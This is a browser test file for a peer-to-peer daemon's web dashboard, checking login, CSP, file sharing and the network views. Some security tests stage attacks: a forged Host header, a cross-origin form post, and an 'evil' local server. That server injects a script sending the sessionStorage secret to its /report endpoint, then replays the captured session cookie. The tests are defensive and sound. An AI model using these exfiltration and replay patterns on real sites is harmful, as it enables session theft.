/**
 * The dashboard in a real browser (Debian's Chromium through
 * playwright-core), against the control APIs of an in-process swarm: the
 * one-time login, the security headers and checks, share and fetch through
 * the page, the file view against `stat`, the network and swarm views.
 * One browser for the whole file; each test its own context where cookies
 * matter.
 */
import assert from 'node:assert/strict'
import { randomBytes } from 'node:crypto'
import fs from 'node:fs/promises'
import http from 'node:http'
import path from 'node:path'
import type { Browser, BrowserContext, Page } from 'playwright-core'
import type { StatResponse } from '../../src/api/content-routes.ts'
import { createTestSwarm, type TestSwarm } from '../../src/swarm/test-swarm.ts'
import { apiJson, launchChromium, loginUrl, openDashboard, rawRequest, startPeerApi, type PeerApi } from './dashboard.ts'

const MiB = 1024 * 1024

describe('dashboard in Chromium', function () {
  this.timeout(120_000)
  let swarm: TestSwarm
  let browser: Browser
  let a: PeerApi
  let b: PeerApi
  let dashA: { context: BrowserContext, page: Page, csp: string[] }
  let dashB: { context: BrowserContext, page: Page, csp: string[] }
  const contexts: BrowserContext[] = []

  before(async () => {
    ;[swarm, browser] = await Promise.all([createTestSwarm(4), launchChromium()])
    a = await startPeerApi(swarm.peers[0])
    b = await startPeerApi(swarm.peers[1])
    dashA = await openDashboard(browser, a)
    dashB = await openDashboard(browser, b)
    contexts.push(dashA.context, dashB.context)
  })
  after(async () => {
    for (const c of contexts) await c.close().catch(() => {})
    await browser?.close()
    await a?.server.close()
    await b?.server.close()
    await swarm?.destroy()
  })

  it('logs in with the one-time URL into an HttpOnly, SameSite=Strict session; the same URL a second time is refused', async () => {
    const url = await loginUrl(a)
    // a HEAD (a link preview) does not spend the code
    const head = await rawRequest(a, 'HEAD', new URL(url).pathname + new URL(url).search, { host: new URL(a.origin).host })
    assert.equal(head.status, 401)
    const context = await browser.newContext()
    contexts.push(context)
    const page = await context.newPage()
    const first = await page.goto(url)
    assert.equal(first?.status(), 200)
    await page.waitForSelector('#peer-id')
    assert.equal(page.url(), `${a.origin}/`, 'the login redirects to the page; the code and the secret leave the address bar')
    assert.match(await page.evaluate<string>('sessionStorage.getItem("shoal-ui-secret")'), /^[\w-]{43}$/)
    assert.equal(await page.textContent('#peer-id'), a.peer.peerId.toString())
    const cookies = await context.cookies(a.origin)
    assert.equal(cookies.length, 1)
    assert.equal(cookies[0].httpOnly, true)
    assert.equal(cookies[0].sameSite, 'Strict')
    assert.equal(await page.evaluate('document.cookie'), '', 'page script cannot read the session')
    assert.equal((await page.content()).includes(a.token), false, 'the API token is nowhere in the page')

    const again = await (await browser.newContext()).newPage()
    contexts.push(again.context())
    const second = await again.goto(url)
    assert.equal(second?.status(), 403)
    assert.match(await again.textContent('body') ?? '', /used up or expired/)
    assert.deepEqual(await again.context().cookies(a.origin), [])
  })

  it('serves every page, file and API answer with a strict CSP, and the page breaks none of it', async () => {
    await dashA.page.goto(`${a.origin}/#/peer`)
    const response = await dashA.page.reload()
    const csp = response?.headers()['content-security-policy'] ?? ''
    assert.match(csp, /default-src 'none'/)
    assert.match(csp, /script-src 'self' 'sha256-[A-Za-z0-9+/=]+'(;|$)/)
    assert.match(csp, /style-src 'self'(;|$)/)
    await dashA.page.waitForSelector('#peer-id')
    const status = await dashA.page.evaluate(async () => {
      const res = await fetch('/api/v1/status', { headers: { 'x-shoal-ui': sessionStorage.getItem('shoal-ui-secret') ?? '' } })
      return [res.status, res.headers.get('content-security-policy')]
    })
    assert.deepEqual(status, [200, csp])
    for (const view of ['file', 'network', 'swarm', 'peer']) {
      await dashA.page.click(`nav a[data-view=${view}]`)
      await dashA.page.waitForSelector('main section.panel')
    }
    assert.deepEqual(dashA.csp, [])
  })

  it('refuses a forged Host header, with or without the session', async () => {
    const page = await rawRequest(a, 'GET', '/', { host: 'rebound.example:80' })
    assert.equal(page.status, 403)
    assert.equal(JSON.parse(page.body).error.name, 'ForbiddenError')
    const cookie = (await dashA.context.cookies(a.origin)).map(c => `${c.name}=${c.value}`).join('; ')
    const withSession = await rawRequest(a, 'GET', '/api/v1/status', { host: `rebound.example:${new URL(a.origin).port}`, cookie })
    assert.equal(withSession.status, 403)
    const secret = await dashA.page.evaluate<string>('sessionStorage.getItem("shoal-ui-secret")')
    const right = await rawRequest(a, 'GET', '/api/v1/status', { host: new URL(a.origin).host, cookie, 'x-shoal-ui': secret })
    assert.equal(right.status, 200)
  })

  it('refuses a page from another origin: its form post and its fetch never reach a route', async () => {
    const evil = http.createServer((_req, res) => {
      res.setHeader('content-type', 'text/html')
      res.end(`<form id="f" method="POST" action="${a.origin}/api/v1/store/gc"></form>`)
    })
    await new Promise<void>(resolve => { evil.listen(0, '127.0.0.1', resolve) })
    try {
      const port = (evil.address() as { port: number }).port
      const page = await dashA.context.newPage()
      await page.goto(`http://127.0.0.1:${port}/`)
      // a fetch that wants to read the answer: the browser's CORS check fails it
      const fetched = await page.evaluate(async (url) => {
        try {
          await fetch(url, { method: 'POST', credentials: 'include', headers: { 'x-shoal-ui': '1' } })
          return 'answered'
        } catch (err) { return (err as Error).name }
      }, `${a.origin}/api/v1/store/gc`)
      assert.equal(fetched, 'TypeError')
      // a form post is a navigation: the session cookie goes along (another port is same-site), the API refuses it
      const [nav] = await Promise.all([page.waitForNavigation(), page.evaluate('document.getElementById("f").submit()')])
      assert.equal(nav?.status(), 403)
      assert.match(await page.textContent('body') ?? '', /ForbiddenError/)
      await page.close()
    } finally {
      await new Promise<void>(resolve => { evil.close(() => { resolve() }) })
    }
    const cookie = (await dashA.context.cookies(a.origin)).map(c => `${c.name}=${c.value}`).join('; ')
    const host = new URL(a.origin).host
    const noHeader = await rawRequest(a, 'POST', '/api/v1/store/gc', { host, cookie, origin: a.origin })
    assert.equal(noHeader.status, 403, 'without X-Shoal-UI')
    const secret = await dashA.page.evaluate<string>('sessionStorage.getItem("shoal-ui-secret")')
    const otherOrigin = await rawRequest(a, 'POST', '/api/v1/store/gc', { host, cookie, origin: 'http://127.0.0.1:1', 'x-shoal-ui': secret })
    assert.equal(otherOrigin.status, 403, 'from another origin')
  })

  it('a server on another port of 127.0.0.1 gets the session cookie but never the secret, and its replay of the cookie is refused', async () => {
    const { context, page } = await openDashboard(browser, a)
    contexts.push(context)
    const secret = await page.evaluate<string>('sessionStorage.getItem("shoal-ui-secret")')
    assert.match(secret, /^[\w-]{43}$/)
    // what the other server receives: every request line and header, and what its page can read
    const seen: string[] = []
    let reported!: () => void
    const report = new Promise<void>(resolve => { reported = resolve })
    const evil = http.createServer((req, res) => {
      seen.push(`${req.method ?? ''} ${req.url ?? ''}\n${JSON.stringify(req.headers)}`)
      if (req.url?.startsWith('/report') === true) {
        res.end()
        reported()
        return
      }
      res.setHeader('content-type', 'text/html')
      res.end(`<script>fetch('/report?' + new URLSearchParams({ stored: String(sessionStorage.getItem('shoal-ui-secret')), referrer: document.referrer, href: location.href }))</script>`)
    })
    await new Promise<void>(resolve => { evil.listen(0, '127.0.0.1', resolve) })
    try {
      const port = (evil.address() as { port: number }).port
      // the logged-in tab itself goes there (the same tab: its sessionStorage, its history)
      await page.goto(`http://127.0.0.1:${port}/`)
      await report
      const cookieName = `shoal_ui_${new URL(a.origin).port}`
      const logged = seen.join('\n')
      assert.match(logged, new RegExp(`${cookieName}=[\\w-]{43}`), 'the browser sends the cookie to another port')
      assert.equal(logged.includes(secret), false, 'never the secret')
      assert.match(logged, /stored=null/)
      // the other server replays the cookie as a script would, setting Host, Origin and X-Shoal-UI itself
      const cookie = /shoal_ui_\d+=[\w-]{43}/.exec(logged)![0]
      const replay = async (method: string, route: string, ui: string): Promise<number> => (await fetch(`${a.origin}/api/v1${route}`, {
        method, headers: { cookie, origin: a.origin, 'x-shoal-ui': ui }
      })).status
      assert.equal(await replay('GET', '/status', '1'), 403)
      assert.equal(await replay('GET', '/events', ''), 403)
      assert.equal(await replay('POST', '/store/gc', '1'), 403)
      assert.equal(await replay('GET', '/status', secret), 200, 'the same replay with the secret passes: the secret is what keeps it out')
      // back on the dashboard in the same tab: the secret is still there (a reload keeps it)
      await page.goto(`${a.origin}/#/peer`)
      await page.waitForSelector('#live.on')
      assert.equal(await page.textContent('#peer-id'), a.peer.peerId.toString())
    } finally {
      await new Promise<void>(resolve => { evil.close(() => { resolve() }) })
    }
  })

  it('asks for a login in a tab that has the cookie but not the secret', async () => {
    const page = await dashA.context.newPage()
    await page.goto(`${a.origin}/#/peer`)
    await page.locator('main', { hasText: 'Not logged in' }).waitFor()
    await page.close()
  })

  it('shares a file through the file picker: it is listed as shared and each block is coloured as stat finds its holders', async () => {
    const { page } = dashA
    await page.goto(`${a.origin}/#/peer`)
    await page.setInputFiles('#share-input', { name: 'picked.bin', mimeType: 'application/octet-stream', buffer: randomBytes(3 * MiB + 1000) })
    const row = await page.waitForSelector('#holdings tr[data-reason=shared]')
    const cid = await row.getAttribute('data-cid')
    assert.ok(cid != null)
    await page.waitForSelector('.share-job[data-status=done]')
    await page.click(`#holdings a[href="#/file/${cid}"]`)
    await page.waitForSelector('#blocks .block')
    const stat = await apiJson<StatResponse>(a, 'GET', `/content/${cid}/stat`)
    assert.equal(stat.blocks.length, 5, '4 leaves of 1 MiB and the root')
    const shown = await page.evaluate<Array<{ cls: string, closest: number }>>(`[...document.querySelectorAll('#blocks .block')].map(e => ({ cls: e.className, closest: Number(e.dataset.closestHolders) }))`)
    assert.deepEqual(shown.map(s => s.closest), stat.blocks.map(bk => bk.holders.filter(h => bk.closest.includes(h)).length))
    assert.deepEqual(shown.map(s => s.cls), stat.blocks.map(() => 'block full'), 'every block on its k closest once the share is placed')
    // the replicas placed on another peer appear on its open page as they are stored
    const replicas = (await b.peer.content.list()).filter(h => h.reason === 'replica').map(h => h.cid).sort()
    assert.ok(replicas.length > 0, 'peer b holds replicas of the file')
    await dashB.page.locator('#holdings tr[data-reason=replica]').nth(replicas.length - 1).waitFor()
    const listed = await dashB.page.evaluate<string[]>(`[...document.querySelectorAll('#holdings tr[data-reason=replica]')].map(e => e.dataset.cid)`)
    assert.deepEqual(listed.sort(), replicas)
  })

  it('shares a file dropped on the page', async () => {
    const { page } = dashA
    await page.goto(`${a.origin}/#/peer`)
    await page.waitForSelector('#drop')
    // a drop as the browser makes it: a DataTransfer holding a File
    const drop = await page.evaluateHandle(`(() => { const t = new DataTransfer(); t.items.add(new File(['dropped bytes'], 'dropped.txt', { type: 'text/plain' })); return t })()`)
    await page.dispatchEvent('#drop', 'drop', { dataTransfer: drop })
    await page.locator('#holdings tr[data-reason=shared]', { hasText: 'dropped.txt' }).waitFor()
    const held = (await a.peer.content.list()).filter(h => h.name === 'dropped.txt')
    assert.equal(held.length, 1)
    assert.equal(held[0].size, 13)
  })

  it('fetches a CID through another peer\'s page: the progress fills, then the file is held as fetched', async () => {
    const holder = swarm.peers[2]
    const file = path.join(swarm.dir, 'only-on-2.bin')
    await fs.writeFile(file, randomBytes(4 * MiB))
    const { cid } = await holder.share({ path: file }, { chunkSize: 256 * 1024, replicas: 0 })
    holder.uploadLimiter.setRate(3 * MiB)
    const page = dashB.page
    await page.fill('#fetch-cid', cid.toString())
    await page.click('#fetch-go')
    // a progress line seen while it runs: blocks, bytes, peers, rate, ETA
    await page.locator('.fetch-job[data-status=running] .fetch-meta', { hasText: /^\d+ of 17 blocks · .+ of 4\.0 MiB · \d+ peers · .+\/s · ETA / }).waitFor()
    // the piece bar fills as pieces arrive, each in its sender's colour
    await page.locator('.fetch-job[data-status=running] .piece.from').first().waitFor()
    await page.waitForSelector(`.fetch-job[data-cid="${cid}"][data-status=done]`, { timeout: 60_000 })
    await page.waitForSelector(`#holdings tr[data-cid="${cid}"][data-reason=fetched]`)
    // where the pieces came from: every one from the one holder
    const pieces = await page.evaluate<string[]>(`[...document.querySelectorAll('.fetch-job .piece')].map(e => e.className + ' ' + e.dataset.from)`)
    assert.deepEqual(pieces, Array.from({ length: 16 }, () => `piece from ${holder.peerId.toString()}`))
    // and rm through the page: the holding goes
    await page.click(`#holdings button[data-rm="${cid}"]`)
    await page.waitForSelector(`#holdings tr[data-cid="${cid}"]`, { state: 'detached' })
    assert.deepEqual(await b.peer.content.list(cid), [])
    assert.deepEqual(dashB.csp, [])
  })

  it('draws the routing table\'s peers in the network view, and a lookup hop by hop', async () => {
    const { page } = dashA
    await page.goto(`${a.origin}/#/network`)
    await page.waitForSelector('#routing-table [data-peer]')
    const listed = await page.evaluate<string[]>(`[...document.querySelectorAll('#routing-table [data-peer]')].map(e => e.dataset.peer)`)
    assert.deepEqual(listed.sort(), a.peer.routingTablePeers().sort())
    const drawn = await page.evaluate<number>(`document.querySelectorAll('#keyspace circle[data-peer]').length`)
    assert.equal(drawn, listed.length)
    const holding = (await a.peer.content.list())[0]
    await page.fill('#lookup-key', holding.cid)
    await page.click('#lookup-go')
    await page.waitForSelector('#lookup-summary')
    await page.waitForSelector('#keyspace circle[data-hop="1"]')
    // unrolled: the k responsible peers ringed, as a lookup through the API finds them (a 4-peer swarm: every lookup knows all)
    await page.waitForSelector('#keyspace circle[data-responsible]')
    const ringed = await page.evaluate<string[]>(`[...document.querySelectorAll('#keyspace circle[data-responsible]')].map(e => e.dataset.responsible)`)
    const lookup = await apiJson<{ responsible: string[] }>(a, 'GET', `/lookup?key=${holding.cid}`)
    assert.deepEqual(ringed.sort(), [...lookup.responsible].sort())
  })

  it('asks for a new login when the daemon\'s API restarts (sessions live in its memory only)', async () => {
    const { page } = dashB
    await page.goto(`${b.origin}/#/peer`)
    await page.waitForSelector('#live.on')
    const address = b.server.address
    await b.server.close()
    b = await startPeerApi(b.peer, address)
    // the events stream reconnects, is refused, and the page says how to log in again
    await page.locator('main', { hasText: 'Not logged in' }).waitFor()
    assert.match(await page.textContent('main') ?? '', /shoal ui/)
  })

  it('shows the swarm of swarm.json with each peer up or down, and a lab\'s links and partition', async () => {
    const { page } = dashA
    await page.goto(`${a.origin}/#/swarm`)
    await page.waitForSelector('#no-swarm')
    const peers = swarm.peers.map((p, index) => ({ index, peerId: p.peerId.toString(), repo: p.repo.path, api: '', pid: index === 3 ? 0 : process.pid, host: index >> 1 }))
    const file = path.join(swarm.dir, 'swarm.json')
    await fs.writeFile(file, JSON.stringify({ createdAt: new Date().toISOString(), replicas: 3, peers }))
    await page.waitForSelector('#swarm-peers tr[data-index="3"]')
    const states = await page.evaluate<string[]>(`[...document.querySelectorAll('#swarm-peers tbody tr .tag')].map(e => e.textContent)`)
    assert.deepEqual(states, ['up', 'up', 'up', 'down'])
    // the lab's record, as swarm up --netns and swarm partition write it
    const link = (uplink: number | null, latencyMs: number): object => ({ uplink, downlink: null, latencyMs })
    const lab = { hosts: [{ index: 0, peers: [0, 1], link: link(1024 * 1024, 20) }, { index: 1, peers: [2, 3], link: link(null, 0) }], partition: [[0, 2], [1, 3]] }
    await fs.writeFile(file, JSON.stringify({ createdAt: new Date().toISOString(), replicas: 3, peers, lab }))
    await page.waitForSelector('#swarm-peers td.partition')
    const rows = await page.evaluate<string[][]>(`[...document.querySelectorAll('#swarm-peers tbody tr')].map(r => [...r.querySelectorAll('td.host, td.link, td.partition')].map(c => c.textContent))`)
    assert.deepEqual(rows, [
      ['0', '1.0 MiB/s / unlimited / 20 ms', '0'],
      ['0', '1.0 MiB/s / unlimited / 20 ms', '1'],
      ['1', 'unlimited / unlimited / 0 ms', '0'],
      ['1', 'unlimited / unlimited / 0 ms', '1']
    ])
  })
})
